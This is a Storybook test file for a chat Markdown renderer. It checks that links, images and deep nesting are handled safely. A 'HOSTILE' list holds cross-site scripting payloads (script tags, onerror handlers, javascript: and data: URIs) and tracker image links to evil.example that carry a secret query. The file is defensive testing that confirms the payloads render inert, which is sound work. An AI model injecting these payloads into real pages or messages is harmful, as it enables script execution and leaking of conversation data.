import type { Decorator, Meta, StoryObj } from '@storybook/react-vite';
import { expect, fn, waitFor } from 'storybook/test';
import { Markdown } from '../src';
import { withPartFrame } from './support/frames';

/** Markdown is shown the way messages show it: inside an agent bubble. */
const inBubble: Decorator = (Story) => (
  <div className="parlant-bubble" style={{ maxWidth: '100%' }}>
    <Story />
  </div>
);

/**
 * How message text is rendered: a small Markdown subset turned into React elements, never into
 * HTML. Links go only to http(s)/mailto and name their host; remote images load only from
 * allowed origins.
 */
const meta = {
  title: 'Parts/Markdown',
  component: Markdown,
  tags: ['autodocs'],
  decorators: [inBubble, withPartFrame],
  parameters: { frame: false },
  args: { text: '' },
} satisfies Meta<typeof Markdown>;

export default meta;
type Story = StoryObj<typeof meta>;

/** What agents write every day: emphasis, code, lists, quotes, a fenced block. */
export const Everyday: Story = {
  args: {
    text: [
      'Hello **bold** and *emphasis* and ~~struck~~ and `inline < code`',
      'a second line in the same paragraph',
      '',
      '- one',
      '- two',
      '  - nested',
      '',
      '1. first',
      '2. second',
      '',
      '> a quoted line',
      '',
      '```js',
      'const markup = "<b>stays text</b>";',
      '```',
    ].join('\n'),
  },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('strong')).toHaveTextContent('bold');
    await expect(canvasElement.querySelector('em')).toHaveTextContent('emphasis');
    await expect(canvasElement.querySelector('del')).toHaveTextContent('struck');
    await expect(canvasElement.querySelectorAll('ul > li')).toHaveLength(3);
    await expect(canvasElement.querySelectorAll('ol > li')).toHaveLength(2);
    await expect(canvasElement.querySelector('blockquote')).toHaveTextContent('a quoted line');
    await expect(canvasElement.querySelector('pre code')).toHaveTextContent('const markup = "<b>stays text</b>";');
    await expect(canvasElement.querySelector('b')).toBeNull();
  },
};

/**
 * Links open safely (`rel="noopener noreferrer nofollow ugc"`) and show their real host on hover;
 * `onLinkClick` lets the host route them (here it only records the click).
 */
export const Links: Story = {
  args: {
    text: 'Read [the docs](https://docs.example.com/start), see https://status.example.com/today. or write to mailto:help@example.com',
    linkTarget: '_self',
    onLinkClick: fn((_url: string, event: { preventDefault(): void }) => event.preventDefault()),
  },
  play: async ({ args, canvas, userEvent }) => {
    const docs = canvas.getByRole('link', { name: 'the docs' });
    await expect(docs).toHaveAttribute('href', 'https://docs.example.com/start');
    await expect(docs).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
    await expect(docs).toHaveAttribute('title', 'docs.example.com');
    await expect(canvas.getByRole('link', { name: 'https://status.example.com/today' })).toBeVisible();
    await expect(canvas.getByRole('link', { name: 'mailto:help@example.com' })).toHaveAttribute('href', 'mailto:help@example.com');
    await userEvent.click(docs);
    await expect(args.onLinkClick).toHaveBeenCalledWith('https://docs.example.com/start', expect.anything());
  },
};

/**
 * Remote images load only from `allowedImageOrigins` (an image URL can leak the conversation to
 * whoever it points at). Others become a link that names the host.
 */
export const Images: Story = {
  args: { text: '' },
  render: (args) => {
    // The allowed image is a file of this Storybook (.storybook/public), so it loads offline.
    const origin = window.location.origin;
    return (
      <Markdown
        {...args}
        text={`Here is the chart:\n\n![Monthly orders](${origin}/story-chart.svg)\n\nAnd this one is blocked: ![tracker](https://evil.example/pixel.png?q=secret)`}
        allowedImageOrigins={[origin]}
      />
    );
  },
  play: async ({ canvas }) => {
    const image = canvas.getByRole('img', { name: 'Monthly orders' }) as HTMLImageElement;
    await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
    await waitFor(() => expect(image.complete && image.naturalWidth).toBeGreaterThan(0), { timeout: 5000 });
    await expect(canvas.queryByRole('img', { name: 'tracker' })).toBeNull();
    await expect(canvas.getByRole('link', { name: 'tracker (Image from evil.example)' })).toHaveAttribute('href', 'https://evil.example/pixel.png?q=secret');
  },
};

const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<style>body{display:none}</style><iframe src="https://evil.example"></iframe>',
  '[click](javascript:window.__pwned=1)',
  '[click](JaVaScRiPt:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![tracker](https://evil.example/leak?q=secret)',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<a href="javascript:alert(1)">raw link</a>',
  '[x](&#106;avascript:alert(1))',
  '[spoof\u202Ecod.exe](https://evil.example)',
];

/** Hostile input: every line is shown as text or a safe link; nothing runs, nothing loads. */
export const HostileInputRenderedInert: Story = {
  args: { text: HOSTILE.join('\n\n') },
  play: async ({ canvasElement, canvas }) => {
    const root = canvasElement.querySelector('.parlant-bubble') as HTMLElement;
    await expect(root).toHaveTextContent('<script>window.__pwned = 1</script>');
    await expect(root.querySelector('script, style, iframe, object, embed, form, svg, img')).toBeNull();
    for (const element of root.querySelectorAll('*')) {
      for (const attribute of element.attributes) await expect(attribute.name.startsWith('on')).toBe(false);
    }
    for (const link of canvas.getAllByRole('link')) await expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
    await expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  },
};

/** Nesting is capped, so thousands of `>` or `-` render as text instead of exhausting the stack. */
export const DeepNesting: Story = {
  args: { text: `${'> '.repeat(2000)}deep\n\n${'- '.repeat(1000)}item` },
  play: async ({ canvasElement }) => {
    await expect(canvasElement).toHaveTextContent('deep');
    await expect(canvasElement.querySelectorAll('blockquote').length).toBeLessThanOrEqual(8);
    await expect(canvasElement.querySelectorAll('ul').length).toBeLessThanOrEqual(8);
  },
};

/** Texts over `plainTextOver` characters are shown as plain text, unparsed. */
export const VeryLongMessage: Story = {
  args: { text: `**${'All work and no play. '.repeat(60)}**`, plainTextOver: 1000 },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('.parlant-md-plain')).not.toBeNull();
    await expect(canvasElement.querySelector('strong')).toBeNull();
  },
};
